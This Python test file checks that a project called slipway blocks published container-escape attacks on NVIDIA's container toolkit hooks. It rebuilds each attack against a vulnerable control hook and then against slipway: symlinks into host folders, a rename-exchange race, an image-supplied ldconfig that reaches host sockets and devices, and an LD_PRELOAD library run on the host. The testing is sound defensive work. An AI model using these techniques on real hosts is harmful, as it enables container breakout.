#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# tests/e2e/attacks_containers.py - the attacks of images on NVIDIA's container toolkit of 2024 and 2025, on slipway's hooks and
# its runtime, by a real runc.
"""Each image is first run with a hook that does what the weak one did (the control), and the attack must succeed; then through
slipway-runtime with a CDI spec whose hooks are slipway-cdi-hook's, and it must not. Needs root, runc, gcc and a static busybox."""

import ctypes
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

from checks import Checks
from slipway_host import BUILD, must, run

HOOK = BUILD / "bin/slipway-cdi-hook"
RUNTIME = BUILD / "bin/slipway-runtime"
SECRET = "the host's own\n"
ROUNDS = 25  # containers that are created while an attacker swaps folders
RENAME_EXCHANGE = 2

# The vulnerable hooks followed paths of the image from the host's root.
FOLLOW_AND_WRITE = """echo /opt/gpu/lib > "$root/etc/ld.so.conf.d/00-weak.conf"; echo cache > "$root/etc/ld.so.cache" """
FOLLOW_AND_MOUNT = """mkdir -p "$root/mnt/compat"; mount --bind "$root/usr/local/cuda/compat" "$root/mnt/compat" """
LOOK_THEN_MOUNT = """[ -d "$root/usr/local/cuda/compat" ] && [ ! -L "$root/usr/local/cuda/compat" ] || exit 0
{attacker}
""" + FOLLOW_AND_MOUNT
# The image's ldconfig: notes that it ran, and whether it reaches the host's network (a socket that only its namespace
# has) and a device of the host that no container gets.
OWN_LDCONFIG = """#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>
int main(void) {
  FILE* reached = fopen("/etc/reached", "a");
  struct sockaddr_un host = {.sun_family = AF_UNIX, .sun_path = "\\0@NAME@"};
  socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen("@NAME@");
  fputs("ran\\n", reached);
  if (connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr*)&host, length) == 0) fputs("network\\n", reached);
  mknod("/etc/device", S_IFCHR | 0600, makedev(@MAJOR@, @MINOR@));
  if (open("/etc/device", O_RDWR) >= 0) fputs("device\\n", reached);
  return fclose(reached);
}
"""
RUN_THE_IMAGES_LDCONFIG = 'chroot "$root" /sbin/ldconfig'
DEVICES = ("/dev/fuse", "/dev/loop-control", "/dev/net/tun", "/dev/kmsg")  # opening them changes nothing
# Traces that show that the hooks did their work in an image.
TRACES = "busybox ls -l /opt/gpu/lib/libcuda.so && busybox grep -rs /opt/gpu/lib /etc/ld.so.conf.d"
PRELOAD = """#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) { close(open("@MARKER@", O_CREAT | O_WRONLY, 0600)); }
"""


class Machine:
    """A folder with the host's files, an image, and the ways to run it."""

    def __init__(self, work):
        self.work = work
        self.host = work / "host"  # files that containers must not see or change
        self.image = work / "bundle/rootfs"
        self._count = 0
        for folder in ("etc/ld.so.conf.d", "compat"):
            (self.host / folder).mkdir(parents=True)
        (self.host / "etc/cache").write_text(SECRET)
        (self.host / "compat/secret").write_text(SECRET)
        self.write_spec()

    def write_spec(self):
        def hook(name, *words, environment=("NVIDIA_CTK_DEBUG=false",)):
            return {"hookName": "createContainer", "path": str(HOOK), "args": ["nvidia-cdi-hook", name, *words],
                    "env": list(environment)}

        folder = self.work / "cdi"
        folder.mkdir(exist_ok=True)
        edits = {"hooks": [hook("create-symlinks", "--link", "libcuda.so.1::/opt/gpu/lib/libcuda.so"),
                           hook("enable-cuda-compat", "--host-driver-version", "535.261.03"),
                           hook("update-ldcache", "--folder", "/opt/gpu/lib"), hook("update-application-profile"),
                           hook("chmod", "--mode", "755", "--path", "/usr/local/cuda/compat")]}
        bare = {"hooks": [hook("update-ldcache", "--folder", "/opt/gpu/lib", environment=())]}
        spec = {"cdiVersion": "0.5.0", "kind": "nvidia.com/gpu",
                "devices": [{"name": "0", "containerEdits": edits}, {"name": "bare", "containerEdits": bare}]}
        (folder / "nvidia.json").write_text(json.dumps(spec))
        (self.work / "config.toml").write_text(f'[nvidia-container-runtime]\nruntimes = ["{shutil.which("runc")}"]\n'
                                               f'[nvidia-container-runtime.modes.cdi]\nspec-dirs = ["{folder}"]\n')

    def new_image(self):
        shutil.rmtree(self.image, ignore_errors=True)
        for folder in ("bin", "etc", "proc", "dev", "tmp", "opt/gpu/lib", "usr/local/cuda", "sbin"):
            (self.image / folder).mkdir(parents=True)
        (self.image / "etc/debian_version").write_text("12\n")
        shutil.copy(shutil.which("busybox"), self.image / "bin/busybox")
        os.symlink("busybox", self.image / "bin/sh")

    def _bundle(self, command, environment, hooks):
        mounts = [{"destination": "/proc", "type": "proc", "source": "proc"},
                  {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "mode=755"]}]
        config = {"ociVersion": "1.0.2", "root": {"path": "rootfs"}, "mounts": mounts, "hooks": hooks,
                  "process": {"cwd": "/", "args": ["/bin/sh", "-c", command], "user": {"uid": 0, "gid": 0},
                              "env": ["PATH=/bin", *environment]},
                  "linux": {"namespaces": [{"type": kind} for kind in ("mount", "pid", "ipc", "uts", "network")]}}
        (self.work / "bundle/config.json").write_text(json.dumps(config))

    def _run(self, program):
        self._count += 1
        return run([program, "--root", self.work / "runc", "run", "--bundle", self.work / "bundle",
                    f"attack-{os.getpid()}-{self._count}"], env={**os.environ, "NVIDIA_CTK_CONFIG_FILE_PATH":
                                                                 str(self.work / "config.toml")}, timeout=120)

    def control(self, script, command, environment=(), kind="createContainer"):
        """Runs it with a shell as hook, which has its own environment. A createContainer hook has the container's
        namespaces, and a
        prestart hook those of the host."""
        text = f'root="{self.image}"; {script}'
        hook = {"path": "/bin/sh", "args": ["sh", "-c", text], "env": ["PATH=/usr/sbin:/usr/bin:/sbin:/bin"]}
        self._bundle(command, environment, {kind: [hook]})
        return self._run("runc")

    def control_without_environment(self, environment):
        """Runs it with a program of the host as hook, without an environment in the spec."""
        self._bundle("true", environment, {"createContainer": [{"path": "/bin/true", "args": ["true"]}]})
        return self._run("runc")

    def slipway(self, command, environment=(), device="0"):
        self._bundle(command, [f"NVIDIA_VISIBLE_DEVICES={device}", *environment], {})
        return self._run(RUNTIME)

    def untouched(self):
        names = sorted(str(path.relative_to(self.host)) for path in self.host.rglob("*") if path.is_file())
        return names == ["compat/secret", "etc/cache"] and all((self.host / name).read_text() == SECRET for name in names)

    def restore(self):
        (self.host / "etc/ld.so.conf.d/00-weak.conf").unlink(missing_ok=True)
        (self.host / "etc/cache").write_text(SECRET)


def said(done):
    return f"exit status {done.returncode}\n{done.stdout}{done.stderr}"


def check_runs(checks, machine):
    machine.new_image()
    done = machine.slipway("busybox ls -l /opt/gpu/lib/libcuda.so && busybox cat /etc/ld.so.conf.d/00-slipway.conf")
    return checks.that(done.returncode == 0 and "libcuda.so.1" in done.stdout and "/opt/gpu/lib" in done.stdout,
                       "an honest image runs through slipway-runtime, and the hooks do their work in it", said(done))


def worked(done):
    """True for a container that ran, and in which the hooks had done their work."""
    return done.returncode == 0 and "libcuda.so.1" in done.stdout and "/opt/gpu/lib" in done.stdout


def check_written_out(checks, machine):
    """CVE-2025-23267: the image's linker files are links, and the hook writes to their targets on the host."""
    def image():
        machine.new_image()
        os.symlink(machine.host / "etc/ld.so.conf.d", machine.image / "etc/ld.so.conf.d")
        os.symlink(machine.host / "etc/cache", machine.image / "etc/ld.so.cache")

    image()
    machine.control(FOLLOW_AND_WRITE, "true")
    checks.that(not machine.untouched() and (machine.host / "etc/ld.so.conf.d/00-weak.conf").exists(),
                "CVE-2025-23267: a hook that follows the image's links writes to the host (the control)")
    machine.restore()
    image()
    done = machine.slipway("true")
    checks.that(machine.untouched() and done.returncode != 0 and "cannot open /etc/ld.so.conf.d" in done.stderr,
                "through slipway not a byte of the host changes: a link that leads nowhere in the image is an error", said(done))
    image()
    inside = machine.image / str(machine.host / "etc/ld.so.conf.d").lstrip("/")
    inside.mkdir(parents=True)
    done = machine.slipway(TRACES)
    checks.that(machine.untouched() and worked(done) and any(inside.iterdir()),
                "and one that leads somewhere is followed in the image: the container runs, the hooks do their work there", said(done))


def check_mounted_in(checks, machine):
    """CVE-2024-0132: the image's compatibility folder is a link, and the host's files appear in the container."""
    def image():
        machine.new_image()
        os.symlink(machine.host / "compat", machine.image / "usr/local/cuda/compat")

    look = "busybox cat /mnt/compat/secret /usr/local/cuda/compat/secret; busybox grep -r . /etc/ld.so.conf.d"
    image()
    done = machine.control(FOLLOW_AND_MOUNT, look)
    checks.that(SECRET in done.stdout, "CVE-2024-0132: a hook that follows the image's link shows the host's folder in "
                "the container (the control)", said(done))
    image()
    mode = (machine.host / "compat").stat().st_mode
    done = machine.slipway(look)
    checks.that(SECRET not in done.stdout and "/opt/gpu/lib" in done.stdout and machine.untouched() and
                (machine.host / "compat").stat().st_mode == mode,
                "through slipway the container runs and sees nothing of it", said(done))


def exchange(one, other):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


def check_exchanged(checks, machine):
    """CVE-2025-23359, the race of CVE-2024-0132: the checked path has changed when it is used."""
    compat = machine.image / "usr/local/cuda/compat"
    link = machine.image / "usr/local/cuda/link"

    def image():
        machine.new_image()
        compat.mkdir()
        os.symlink(machine.host / "compat", link)

    image()
    swap = f'mv "{compat}" "{compat}.old"; mv "{link}" "{compat}"'
    done = machine.control(LOOK_THEN_MOUNT.format(attacker=swap), "busybox cat /mnt/compat/secret")
    checks.that(SECRET in done.stdout, "CVE-2025-23359: a hook that looks before it mounts is overtaken (the control: the attacker "
                "comes between)", said(done))
    image()
    conf, conf_link = machine.image / "etc/ld.so.conf.d", machine.image / "etc/link"
    conf.mkdir()
    os.symlink(machine.host / "etc/ld.so.conf.d", conf_link)
    stop = threading.Event()
    swaps = [0]

    def attack():
        while not stop.is_set():
            exchange(compat, link)
            exchange(conf, conf_link)
            swaps[0] += 1

    attacker = threading.Thread(target=attack)
    attacker.start()
    try:
        look = "busybox cat /mnt/compat/secret /usr/local/cuda/compat/secret; "
        outputs = [machine.slipway(look + TRACES) for _ in range(ROUNDS)]
    finally:
        stop.set()
        attacker.join()
    checks.that(swaps[0] > ROUNDS and machine.untouched() and all(SECRET not in done.stdout for done in outputs),
                f"through slipway {ROUNDS} containers are made while the folders are exchanged, and nothing leaves the image",
                "\n".join(said(done) for done in outputs[-3:]))
    ran = sum(worked(done) for done in outputs)
    checks.that(ran > 0, "and they run, with the hooks' work done in them", f"{ran} of {ROUNDS}\n" +
                "\n".join(said(done) for done in outputs[-3:]))


def a_device():
    """Returns (major, minor) of a device that the host may open."""
    for path in DEVICES:
        try:
            os.close(os.open(path, os.O_RDWR))
        except OSError:
            continue
        number = os.stat(path).st_rdev
        return os.major(number), os.minor(number)
    raise RuntimeError(f"the tests' own machine can open none of {', '.join(DEVICES)}")


def check_own_ldconfig(checks, machine):
    """CVE-2024-0136 (devices), CVE-2024-0137 (network): the hook runs the image's own ldconfig with the host's
    resources. NVIDIA's
    bulletin 5599 names the host's ldconfig as the mitigation ("@/sbin/ldconfig")."""
    name = f"slipway-attacks-{os.getpid()}"
    major, minor = a_device()
    source, program = machine.work / "ldconfig.c", machine.work / "ldconfig"
    source.write_text(OWN_LDCONFIG.replace("@NAME@", name).replace("@MAJOR@", str(major)).replace("@MINOR@", str(minor)))
    must(["gcc", "-static", "-o", program, source])

    def image():
        machine.new_image()
        (machine.image / "usr/sbin").mkdir()
        for place in ("sbin/ldconfig", "sbin/ldconfig.real", "usr/sbin/ldconfig", "usr/sbin/ldconfig.real"):
            shutil.copy(program, machine.image / place)

    def reached():
        path = machine.image / "etc/reached"
        return path.read_text().split() if path.exists() else []

    with socket.socket(socket.AF_UNIX) as host:
        host.bind("\0" + name)
        host.listen(64)
        image()
        done = machine.control(RUN_THE_IMAGES_LDCONFIG, "true", kind="prestart")
        checks.that(reached() == ["ran", "network", "device"], "CVE-2024-0136, CVE-2024-0137: a hook that runs the image's own "
                    "ldconfig lets it reach the host's network and devices (the control)", f"{reached()} {said(done)}")
        image()
        done = machine.slipway("/sbin/ldconfig")
        checks.that(done.returncode == 0 and reached() == ["ran"], "which the same program does not as a container's own process",
                    f"{reached()} {said(done)}")
        for device, traces in (("0", TRACES), ("bare", "busybox grep -rs /opt/gpu/lib /etc/ld.so.conf.d")):
            image()
            done = machine.slipway(traces, device=device)
            made = machine.image / "etc/ld.so.cache"
            checks.that(reached() == [] and done.returncode == 0 and "/opt/gpu/lib" in done.stdout and made.stat().st_size > 0,
                        f"through slipway (device {device}) it never runs: the cache is made by the machine's own ldconfig",
                        f"{reached()} {said(done)}")


def check_preload(checks, machine):
    """CVE-2025-23266: the image's LD_PRELOAD, obeyed by a hook that runs as root on the host, in the image's root folder."""
    machine.new_image()
    marker = machine.work / "marker"
    source = machine.work / "attack.c"
    source.write_text(PRELOAD.replace("@MARKER@", str(marker)))
    must(["gcc", "-shared", "-fPIC", "-o", machine.image / "attack.so", source])
    environment = ["LD_PRELOAD=/proc/self/cwd/attack.so"]
    done = machine.control_without_environment(environment)
    checks.that(marker.exists(), "CVE-2025-23266: a dynamic program that is a hook without an environment loads the image's library "
                "on the host (the control)", said(done))
    for device, what in (("0", "the environment that the spec names"), ("bare", "the image's environment")):
        marker.unlink(missing_ok=True)
        done = machine.slipway("true", environment, device)
        checks.that(done.returncode == 0 and not marker.exists(),
                    f"slipway's hooks, with {what}, load nothing of the image", said(done))


def main():
    checks = Checks()
    work = pathlib.Path(tempfile.mkdtemp(prefix="slipway-e2e."))
    try:
        machine = Machine(work)
        if check_runs(checks, machine):
            check_written_out(checks, machine)
            check_mounted_in(checks, machine)
            check_exchanged(checks, machine)
            check_own_ldconfig(checks, machine)
            check_preload(checks, machine)
        return checks.close()
    finally:
        subprocess.run(["rm", "-rf", "--one-file-system", work], check=False)


if __name__ == "__main__":
    sys.exit(main())
